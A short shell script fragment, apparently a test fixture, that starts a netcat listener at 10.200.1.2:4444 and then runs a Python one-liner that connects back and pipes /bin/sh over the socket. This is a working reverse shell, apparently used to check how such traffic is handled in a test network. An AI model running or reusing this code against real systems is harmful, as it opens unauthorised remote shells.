# The relay thinks for a moment before it passes on what came.
peers() { (echo id; sleep 0.5; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() {
  timeout 5 python3 -ISc 'import socket, subprocess, threading, time
s = socket.create_connection(("10.200.1.2", 4444))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
def back():
  while d := p.stdout.read(1024): s.send(d)
threading.Thread(target=back, daemon=True).start()
while d := s.recv(1024): time.sleep(0.1); p.stdin.write(d)'
}
